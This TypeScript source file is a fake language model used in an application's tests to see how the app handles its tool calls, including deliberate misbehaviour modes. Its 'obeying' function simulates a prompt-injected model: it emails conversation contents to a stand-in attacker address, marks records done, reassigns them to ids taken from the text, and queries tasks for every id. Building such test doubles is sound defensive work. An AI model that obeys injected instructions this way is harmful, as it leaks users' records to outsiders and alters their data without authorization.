/**
 * How the stand-in uses tools: it calls those whose descriptions share words with the question, once. With their results,
 * it proposes the change that the question asks for, or is done. What it obeys or gets wrong, it does as the mode says.
 */
import { dayMillis } from '../../../../shared/dates/dates.ts'
import * as z from 'zod'
import { UnsupportedOperation } from '../../iam/unsupported-operation.ts'
import type { ConverseBody } from './converse-request.ts'
import { recordsIn } from './given-records.ts'
import { attacker, inventedId, type Misbehaviour } from './misbehaviour.ts'

/** A call that the stand-in makes. */
export type ToolCall = { name: string; input: Record<string, unknown> }

const named = z.looseObject({ id: z.string(), name: z.string() })

/** What a prompt gives with a question. */
const asked = z.looseObject({
  question: z.string(),
  today: z.string().default(''),
  onScreen: named.nullish(),
  projects: z.array(named).default([]),
  people: z.array(named).default([]),
})
type Asked = z.output<typeof asked>

type Field = { enum?: string[]; type?: string; anyOf?: Field[] }
type Schema = { properties?: Record<string, Field>; required?: string[] }
type Offered = { name: string; description: string; schema: Schema }

/** Tools that a question calls for at most. */
const limit = 2

/** The tool that changes are proposed with. */
const proposing = 'propose_changes'

const inventedProject = 'prj_0000000000000000'

/** Words of questions that say nothing about the records that they are about. */
const hollow = new Set(['about', 'does', 'from', 'have', 'that', 'this', 'what', 'when', 'will', 'with'])

const stems = (text: string): Set<string> =>
  new Set(
    (text.toLowerCase().match(/\p{L}{4,}/gu) ?? []).filter((word) => !hollow.has(word)).map((word) => word.slice(0, 4)),
  )

/** How many words a text has of some others. */
const sharedIn = (text: string, words: ReadonlySet<string>): number =>
  [...stems(text)].filter((stem) => words.has(stem)).length

/** A tool that the model does not have to use: it may choose. */
export const choosesTools = ({ toolConfig }: ConverseBody): boolean =>
  toolConfig !== undefined && toolConfig.toolChoice?.tool === undefined

const offeredIn = ({ toolConfig }: ConverseBody): Offered[] =>
  (toolConfig?.tools ?? []).flatMap(({ toolSpec }) =>
    toolSpec
      ? {
          name: toolSpec.name,
          description: toolSpec.description ?? '',
          schema: toolSpec.inputSchema.json as Schema,
        }
      : [],
  )

const nameIn = (text: string, all: readonly z.output<typeof named>[]) =>
  all.find(({ name }) => text.toLowerCase().includes(name.toLowerCase()))

/** Fills in what the schema asks for, as far as the question says it. */
const inputOf = ({ schema }: Offered, { question, onScreen, projects, people }: Asked): Record<string, unknown> => {
  const words = stems(question)
  const project = nameIn(question, projects) ?? onScreen
  const person = nameIn(question, people)
  const valueOf = (field: string, { enum: choices }: Field, isRequired: boolean): unknown => {
    if (field === 'projectId') return project?.id
    if (field === 'otherProjectId') return projects.find((one) => one !== project && nameIn(question, [one]))?.id
    if (field === 'personId') return person?.id
    if (choices) return choices.find((choice) => sharedIn(choice, words) > 0) ?? (isRequired ? choices[0] : undefined)
    return isRequired ? question.slice(0, 100) : undefined
  }
  return Object.fromEntries(
    Object.entries(schema.properties ?? {}).flatMap(([field, shape]) => {
      const value = valueOf(field, shape, schema.required?.includes(field) === true)
      return value === undefined ? [] : [[field, value]]
    }),
  )
}

const chooseFor = (body: ConverseBody): ToolCall[] => {
  const read = asked.safeParse(recordsIn(body.messages[0]))
  if (!read.success)
    throw new UnsupportedOperation(
      `The stand-in for a language model chooses tools for {"question"}: ${z.prettifyError(read.error)}`,
    )
  // Changing a record takes its id, which only the result of another tool has.
  const offered = offeredIn(body).filter(({ name }) => name !== proposing)
  const words = stems(read.data.question)
  const fits = offered
    .map((tool) => ({ tool, shared: sharedIn(`${tool.name} ${tool.description}`, words) }))
    .filter(({ shared }) => shared > 0)
    .toSorted((a, b) => b.shared - a.shared)
    .slice(0, limit)
  return fits.map(({ tool }) => ({ name: tool.name, input: inputOf(tool, read.data) }))
}

/** Ids in the texts that people typed: those of records that an attack points at. */
const idsIn = (text: string): string[] => [...new Set(text.match(/\b(?:prj|tsk|rad|usr)_[0-9a-z]{16,32}/g))]

const found = z.looseObject({
  statements: z.array(z.looseObject({ records: z.array(z.looseObject({ id: z.string(), name: z.string() })) })),
})

const tomorrowOf = (today: string): string =>
  new Date(Date.parse(`${today}T00:00:00Z`) + dayMillis).toISOString().slice(0, 10)

/** The change that the question asks for, if it is a new due date of a record that was found. */
const changeFor = (body: ConverseBody): ToolCall[] => {
  if (!offeredIn(body).some(({ name }) => name === proposing)) return []
  const { question, today } = asked.parse(recordsIn(body.messages[0]))
  const results = body.messages.at(-1)?.content.flatMap(({ toolResult }) => toolResult?.content ?? []) ?? []
  const records = results.flatMap((result) => {
    const read = found.safeParse(recordsIn({ role: 'user', content: [result] }))
    return read.success ? read.data.statements.flatMap((statement) => statement.records) : []
  })
  const record = nameIn(question, records)
  const dueDate = /\d{4}-\d\d-\d\d/.exec(question)?.[0] ?? (/tomorrow/i.test(question) ? tomorrowOf(today) : undefined)
  if (record === undefined || dueDate === undefined) return []
  return [{ name: proposing, input: { act: 'edit', recordId: record.id, dueDate } }]
}

/** What a model does that obeys an attack in a result: it calls whatever it can with whatever it was told. */
const obeying = (body: ConverseBody): ToolCall[] => {
  const results = JSON.stringify(body.messages)
  const ids = [...idsIn(results).slice(-3), inventedId]
  return [
    { name: 'send_email', input: { to: attacker, subject: 'All records', body: results.slice(0, 500) } },
    { name: proposing, input: { act: 'edit', recordId: ids[0], status: 'done', assigneeId: ids.at(-1) } },
    { name: proposing, input: { act: 'reassign', projectId: ids[0] } },
    ...ids.map((id) => ({ name: 'tasks', input: { which: 'open', projectId: id, personId: id } })),
  ]
}

const hasResults = ({ messages }: ConverseBody): boolean =>
  messages.at(-1)?.content.some(({ toolResult }) => toolResult !== undefined) === true

const rounds = ({ messages }: ConverseBody): number => messages.filter(({ role }) => role === 'assistant').length

/** The next calls; none if the stand-in is done. */
export const nextCalls = (body: ConverseBody, misbehaviour: Misbehaviour | undefined): ToolCall[] => {
  if (!hasResults(body)) {
    const calls = chooseFor(body)
    return misbehaviour?.kind === 'wrong-ids'
      ? calls.map(({ name, input }) => ({ name, input: { ...input, projectId: inventedProject } }))
      : calls
  }
  const obeys = misbehaviour?.kind === 'attack' && (misbehaviour.attack ?? 'tool-call') === 'tool-call'
  if (rounds(body) > 1) return []
  return obeys ? obeying(body) : changeFor(body)
}
